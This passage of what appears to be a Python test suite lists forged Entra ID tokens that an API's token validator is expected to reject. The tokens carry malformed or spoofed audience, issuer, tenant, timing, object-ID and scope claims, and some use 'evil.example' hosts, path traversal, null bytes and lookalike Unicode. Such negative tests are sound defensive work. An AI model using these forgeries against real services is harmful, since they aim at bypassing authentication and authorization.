            "aud-empty": _claims(aud=""),
            "aud-a-list": _claims(aud=[seed.API_CLIENT_ID]),
            "aud-a-list-of-two": _claims(aud=[seed.API_CLIENT_ID, "https://graph.microsoft.com"]),
            "aud-an-object": _claims(aud={seed.API_CLIENT_ID: True}),
            "aud-a-number": _claims(aud=6731),
            "aud-true": _claims(aud=True),
            "aud-a-wildcard": _claims(aud="*"),
            "aud-a-prefix": _claims(aud=seed.API_CLIENT_ID[:-1]),
            "aud-uri-a-prefix": _claims(aud=_API_URI[:-1]),
            "aud-then-garbage": _claims(aud=f"{seed.API_CLIENT_ID}.evil.example"),
            "aud-uri-then-a-path": _claims(aud=f"{_API_URI}/{_SCOPE}"),
            "aud-uri-two-slashes": _claims(aud=f"{_API_URI}//"),
            "aud-uri-then-a-fragment": _claims(aud=f"{_API_URI}#"),
            "aud-then-a-slash": _claims(aud=f"{seed.API_CLIENT_ID}/"),
            "aud-then-a-blank": _claims(aud=f"{seed.API_CLIENT_ID} "),
            "aud-after-a-blank": _claims(aud=f" {seed.API_CLIENT_ID}"),
            "aud-then-a-null": _claims(aud=f"{seed.API_CLIENT_ID}\0"),
            "aud-in-capitals": _claims(aud=seed.API_CLIENT_ID.upper()),
            "aud-uri-in-capitals": _claims(aud=_API_URI.upper()),
            "aud-in-braces": _claims(aud=f"{{{seed.API_CLIENT_ID}}}"),
            "aud-as-spn": _claims(aud=f"spn:{seed.API_CLIENT_ID}"),
            "aud-as-https": _claims(aud=f"https://{seed.API_CLIENT_ID}"),
            "aud-two-in-a-text": _claims(aud=f"{seed.API_CLIENT_ID} {_API_URI}"),
            "id-token-of-the-client": _token(
                lambda forger: forger.entra.id_token(client_id=seed.PARTNER_CLIENT_ID)
            ),
        },
    ),
    *_group(
        REJECTED,
        "for Microsoft Graph",
        {
            "graph-token": _token(
                lambda forger: forger.entra.graph_token(audience="https://graph.microsoft.com")
            ),
            "graph-token-app-only": _token(
                lambda forger: forger.entra.graph_token(
                    None, audience="https://graph.microsoft.com"
                )
            ),
            "graph-token-without-nonce": _with_audience_of_graph("https://graph.microsoft.com"),
            "graph-token-with-a-slash": _with_audience_of_graph("https://graph.microsoft.com/"),
            "graph-token-by-id": _with_audience_of_graph("00000003-0000-0000-c000-000000000000"),
            "aud-graph": _claims(aud="https://graph.microsoft.com"),
            "header-nonce": _header(nonce="0123456789"),
            "header-nonce-null": _header_bytes(lambda header: _append(header, "nonce", "null")),
        },
    ),
    *_group(
        REJECTED,
        "connector platform",
        {
            "aud-apihub": _claims(aud="https://apihub.azure.com"),
            "aud-apihub-with-a-slash": _claims(aud="https://apihub.azure.com/"),
        },
    ),
    # Who issued it.
    *_group(
        REJECTED,
        "issuer is not the one",
        {
            "iss-absent": _without("iss"),
            "iss-null": _claims(iss=None),
            "iss-a-list": _token(
                lambda forger: forger.entra.user_token(
                    claims={"iss": [f"{forger.entra.base_url}/{seed.TENANT_ID}/v2.0"]}
                )
            ),
            "iss-a-number": _claims(iss=1),
            "iss-strangers": _claims(iss=f"https://login.example/{seed.TENANT_ID}/v2.0"),
            "iss-of-another-tenant": _issuer(f"{{host}}/{OTHER_TENANT}/v2.0"),
            "iss-common": _issuer("{host}/common/v2.0"),
            "iss-organizations": _issuer("{host}/organizations/v2.0"),
            "iss-placeholder": _issuer("{host}/{tenantid}/v2.0"),
            "iss-by-domain": _issuer("{host}/contoso.onmicrosoft.com/v2.0"),
            "iss-then-a-slash": _issuer(f"{{host}}/{seed.TENANT_ID}/v2.0/"),
            "iss-then-garbage": _issuer(f"{{host}}/{seed.TENANT_ID}/v2.0.evil.example"),
            "iss-two-slashes": _issuer(f"{{host}}//{seed.TENANT_ID}/v2.0"),
            "iss-path-up": _issuer(f"{{host}}/{OTHER_TENANT}/../{seed.TENANT_ID}/v2.0"),
            "iss-host-as-user": _issuer(f"{{host}}@evil.example/{seed.TENANT_ID}/v2.0"),
            "iss-host-as-prefix": _issuer(f"{{host}}.evil.example/{seed.TENANT_ID}/v2.0"),
            "iss-host-in-capitals": _token(
                lambda forger: forger.entra.user_token(
                    claims={"iss": f"{forger.entra.base_url.upper()}/{seed.TENANT_ID}/v2.0"}
                )
            ),
            "iss-plain-http": _issuer(f"http://{{bare}}/{seed.TENANT_ID}/v2.0"),
            "iss-without-a-scheme": _issuer(f"{{bare}}/{seed.TENANT_ID}/v2.0"),
            "iss-tenant-in-capitals": _issuer(f"{{host}}/{seed.TENANT_ID.upper()}/v2.0"),
            "iss-v1-at-the-host": _issuer(f"{{host}}/{seed.TENANT_ID}/"),
            "iss-of-another-cloud": _claims(
                iss=f"https://login.partner.microsoftonline.cn/{seed.TENANT_ID}/v2.0"
            ),
            "iss-v1-of-another-cloud": _user(
                version="1.0", claims={"iss": f"https://sts.chinacloudapi.cn/{seed.TENANT_ID}/"}
            ),
            "iss-v1-without-its-slash": _user(
                version="1.0", claims={"iss": f"https://sts.windows.net/{seed.TENANT_ID}"}
            ),
            "iss-v1-of-another-tenant": _user(
                version="1.0", claims={"iss": f"https://sts.windows.net/{OTHER_TENANT}/"}
            ),
            "iss-v1-in-a-v2-token": _claims(iss=f"https://sts.windows.net/{seed.TENANT_ID}/"),
            "iss-v2-in-a-v1-token": _token(
                lambda forger: forger.entra.user_token(
                    version="1.0", claims={"iss": f"{forger.entra.base_url}/{seed.TENANT_ID}/v2.0"}
                )
            ),
            "ver-1-in-a-v2-token": _claims(ver="1.0", appid=seed.PARTNER_CLIENT_ID),
            "ver-2-in-a-v1-token": _user(
                version="1.0", claims={"ver": "2.0", "azp": seed.PARTNER_CLIENT_ID}
            ),
            "tid-of-another-tenant": _claims(tid=OTHER_TENANT),
            "tid-of-ours-in-another-tenants": _of_other_tenant(claims={"tid": seed.TENANT_ID}),
            "tid-of-ours-in-another-tenants-v1": _of_other_tenant(
                "1.0", claims={"tid": seed.TENANT_ID}
            ),
        },
    ),
    *_group(
        REJECTED,
        "version is neither",
        {
            "ver-absent": _without("ver"),
            "ver-null": _claims(ver=None),
            "ver-3": _claims(ver="3.0"),
            "ver-short": _claims(ver="2"),
            "ver-a-number": _claims(ver=2.0),
            "ver-a-list": _claims(ver=["2.0"]),
            "ver-then-a-blank": _claims(ver="2.0 "),
            "payload-empty-object": _payload_bytes(lambda payload: b"{}"),
        },
    ),
    *_group(
        REJECTED,
        "claim tid",
        {
            "tid-absent": _without("tid"),
            "tid-null": _claims(tid=None),
            "tid-empty": _claims(tid=""),
            "tid-a-list": _claims(tid=[seed.TENANT_ID]),
            "tid-a-number": _claims(tid=84),
            "tid-common": _claims(tid="common"),
            "tid-a-domain": _claims(tid="contoso.onmicrosoft.com"),
            "tid-in-braces": _claims(tid=f"{{{seed.TENANT_ID}}}"),
            "tid-as-urn": _claims(tid=f"urn:uuid:{seed.TENANT_ID}"),
            "tid-without-hyphens": _claims(tid=seed.TENANT_ID.replace("-", "")),
            "tid-then-a-path": _claims(tid=f"{seed.TENANT_ID}/../{OTHER_TENANT}"),
            "tid-then-a-line-break": _claims(tid=f"{seed.TENANT_ID}\n"),
        },
    ),
    *_group(
        NOT_ALLOWED,
        "tenant is not on the list",
        {
            "tenant-other": _of_other_tenant(),
            "tenant-other-v1": _of_other_tenant("1.0"),
            "tenant-consumers": _user(tenant_id=CONSUMERS_TENANT),
            "tenant-other-app-only": _app(tenant_id=OTHER_TENANT),
            "tenant-other-without-the-scope": _of_other_tenant(scopes="User.Read"),
        },
    ),
    # When it counts.
    *_group(
        REJECTED,
        "has expired",
        {
            "expired": _seconds_from_now(exp=-3600),
            "expired-a-second-ago": _seconds_from_now(exp=-1),
            "expired-v1": _user(version="1.0", lifetime_s=-1),
            "expired-of-another-tenant": _of_other_tenant(lifetime_s=-1),
            "exp-zero": _claims(exp=0),
            "exp-one": _claims(exp=1),
        },
    ),
    *_group(
        REJECTED,
        "not valid yet",
        {
            "not-valid-yet": _seconds_from_now(nbf=1800),
            "not-valid-for-two-minutes": _seconds_from_now(nbf=120),
            "issued-in-the-future": _seconds_from_now(iat=120),
            "issued-and-valid-in-the-future": _seconds_from_now(nbf=300, iat=300),
        },
    ),
    *(
        forgery
        for claim in ("exp", "nbf", "iat")
        for forgery in _group(
            REJECTED,
            f"time {claim}",
            {
                f"{claim}-absent": _without(claim),
                f"{claim}-null": _claims(**{claim: None}),
                f"{claim}-a-text": _claims(**{claim: "4000000000"}),
                f"{claim}-empty": _claims(**{claim: ""}),
                f"{claim}-true": _claims(**{claim: True}),
                f"{claim}-a-list": _claims(**{claim: [4_000_000_000]}),
                f"{claim}-an-object": _claims(**{claim: {"$gt": 0}}),
                f"{claim}-a-fraction": _claims(**{claim: 1_700_000_000.5}),
                f"{claim}-a-whole-fraction": _claims(**{claim: 1_700_000_000.0}),
                f"{claim}-with-an-exponent": _claim_text(claim, "4e9"),
                f"{claim}-beyond-all-numbers": _claim_text(claim, "1e400"),
                f"{claim}-negative": _claims(**{claim: -1}),
                f"{claim}-minus-zero": _claim_text(claim, "-0.0"),
                f"{claim}-huge": _claims(**{claim: 10**20}),
                f"{claim}-beyond-64-bits": _claims(**{claim: 2**64 + 4_000_000_000}),
                f"{claim}-in-milliseconds": _seconds_from_now(**{claim: 4_000_000_000_000}),
                f"{claim}-a-date": _claims(**{claim: "2099-01-01T00:00:00Z"}),
            },
        )
    ),
    # For whom it stands.
    *_group(
        REJECTED,
        "claim oid",
        {
            "oid-absent": _without("oid"),
            "oid-null": _claims(oid=None),
            "oid-empty": _claims(oid=""),
            "oid-a-number": _claims(oid=87),
            "oid-a-list": _claims(oid=[_OID]),
            "oid-a-name": _claims(oid=seed.ADELE.username),
            "oid-in-braces": _claims(oid=f"{{{_OID}}}"),
            "oid-as-urn": _claims(oid=f"urn:uuid:{_OID}"),
            "oid-without-hyphens": _claims(oid=_OID.replace("-", "")),
            "oid-hyphens-elsewhere": _claims(oid=f"-{_OID.replace('-', '')}-"),
            "oid-with-fullwidth-digits": _claims(oid=_OID.replace("8", "\uff18")),
            "oid-with-underscores": _claims(oid=_OID.replace("-", "_")),
            "oid-then-a-line-break": _claims(oid=f"{_OID}\n"),
            "oid-after-a-blank": _claims(oid=f" {_OID}"),
            "oid-then-another": _claims(oid=f"{_OID},{seed.MEGAN.object_id}"),
            "oid-half-a-character": _claims(oid="\ud83d"),
        },
    ),
    *_group(
        REJECTED,
        "subject (sub)",
        {
            "sub-absent": _without("sub"),
            "sub-null": _claims(sub=None),
            "sub-empty": _claims(sub=""),
            "sub-a-number": _claims(sub=1),
            "sub-a-list": _claims(sub=["subject"]),
        },
    ),
    *_group(
        REJECTED,
        "claim azp",
        {
            "azp-absent": _without("azp"),
            "azp-null": _claims(azp=None),
            "azp-a-list": _claims(azp=[seed.PARTNER_CLIENT_ID]),
            "azp-a-name": _claims(azp="partner"),
            "azp-in-braces": _claims(azp=f"{{{seed.PARTNER_CLIENT_ID}}}"),
            "azp-under-its-v1-name": _without("azp", claims={"appid": seed.PARTNER_CLIENT_ID}),
        },
    ),
    *_group(
        REJECTED,
        "claim appid",
        {
            "appid-absent-v1": _without("appid", version="1.0"),
            "appid-under-its-v2-name": _without(
                "appid", version="1.0", claims={"azp": seed.PARTNER_CLIENT_ID}
            ),
        },
    ),
    *_group(
        NOT_ALLOWED,
        "client application is not on the list",
        {
            "client-not-on-the-list": _user(client_id=UNLISTED_CLIENT),
            "client-not-on-the-list-v1": _user(client_id=UNLISTED_CLIENT, version="1.0"),
            "client-is-this-api": _user(client_id=seed.API_CLIENT_ID),
            "client-listed-under-its-v1-name": _user(
                client_id=UNLISTED_CLIENT, claims={"appid": seed.PARTNER_CLIENT_ID}
            ),
        },
    ),
    *_group(
        APP_ONLY,
        "stands for an application",
        {
            "app-only": _app(),
            "app-only-v1": _app(version="1.0"),
            "app-only-that-says-so": _app(idtyp=True),
            "app-only-that-says-so-without-a-client": _app(idtyp=True, without=("azp",)),
            "app-only-without-roles": _app(without=("roles",)),
            "app-only-with-our-scope-as-role": _app(roles=[_SCOPE]),
            "app-only-in-the-shape-of-a-user": _app(
                claims={"oid": _OID, "sub": "subject", "idtyp": "user"}
            ),
            "app-only-with-a-scope": _app(idtyp=True, claims={"scp": _SCOPE}),
            "idtyp-app-in-a-users-token": _claims(idtyp="app"),
            "idtyp-in-capitals": _claims(idtyp="APP"),
            "idtyp-a-device": _claims(idtyp="device"),
            "idtyp-a-list": _claims(idtyp=["user"]),
            "idtyp-null": _claims(idtyp=None),
            "scp-absent": _user(scopes=None),
            "scp-absent-roles-instead": _user(scopes=None, claims={"roles": [_SCOPE]}),
            "scp-under-another-name": _user(scopes=None, claims={"scope": _SCOPE}),
        },
    ),
    *_group(
        REJECTED,
        "an ID token",
        {
            "id-token": _token(lambda forger: forger.entra.id_token()),
            "id-token-without-profile": _token(lambda forger: forger.entra.id_token(profile=False)),
            "id-token-with-roles": _token(
                lambda forger: forger.entra.id_token(claims={"roles": ["Bookings.Manager"]})
            ),
            "id-token-with-a-nonce-claim": _token(
                lambda forger: forger.entra.id_token(
                    claims={"nonce": "0123456789", "c_hash": "0123456789"}
                )
            ),
            "id-token-v1": _user(version="1.0", scopes=None, without=("appid", "appidacr")),
        },
    ),
    # What it allows.
    *_group(
        REJECTED,
        "scopes (scp)",
        {
            "scp-null": _claims(scp=None),
            "scp-empty": _claims(scp=""),
            "scp-a-list": _claims(scp=[_SCOPE]),
            "scp-an-object": _claims(scp={_SCOPE: True}),
            "scp-a-number": _claims(scp=1),
            "scp-true": _claims(scp=True),
        },
    ),
    *_group(
        SCOPE_MISSING,
        "lacks the scope",
        {
            "scp-another": _user(scopes="User.Read"),
            "scp-several-others": _user(scopes="User.Read openid profile"),
            "scp-blank": _user(scopes=" "),
            "scp-a-wildcard": _user(scopes="*"),
            "scp-default": _user(scopes=".default"),
            "scp-shorter": _user(scopes=_SCOPE[:-1]),
            "scp-shorter-in-front": _user(scopes=_SCOPE[1:]),
            "scp-longer": _user(scopes=f"{_SCOPE}All"),
            "scp-longer-by-a-word": _user(scopes=f"{_SCOPE}.All"),
            "scp-longer-in-front": _user(scopes=f"Not{_SCOPE}"),
            "scp-in-its-halves": _user(scopes="Appointments. Cancel"),
            "scp-qualified": _user(scopes=f"{_API_URI}/{_SCOPE}"),
            "scp-in-small-letters": _user(scopes=_SCOPE.lower()),
            "scp-in-capitals": _user(scopes=_SCOPE.upper()),
            "scp-between-tabs": _user(scopes=f"openid\t{_SCOPE}\tprofile"),
            "scp-between-line-breaks": _user(scopes=f"openid\n{_SCOPE}\nprofile"),
            "scp-between-commas": _user(scopes=f"openid,{_SCOPE},profile"),
            "scp-between-pluses": _user(scopes=f"openid+{_SCOPE}+profile"),
            "scp-between-no-break-spaces": _user(scopes=f"openid\u00a0{_SCOPE}\u00a0profile"),
            "scp-in-quotes": _user(scopes=f'"{_SCOPE}"'),
            "scp-then-a-null": _user(scopes=f"{_SCOPE}\0"),
            "scp-with-a-cyrillic-letter": _user(scopes=_SCOPE.replace("A", "\u0410")),
            "scp-in-fullwidth-letters": _user(scopes=_SCOPE.replace("C", "\uff23")),
            "scp-with-a-zero-width-space": _user(scopes=_SCOPE.replace(".", ".\u200b")),
            "scp-with-a-one-dot-leader": _user(scopes=_SCOPE.replace(".", "\u2024")),
        },
    ),
)
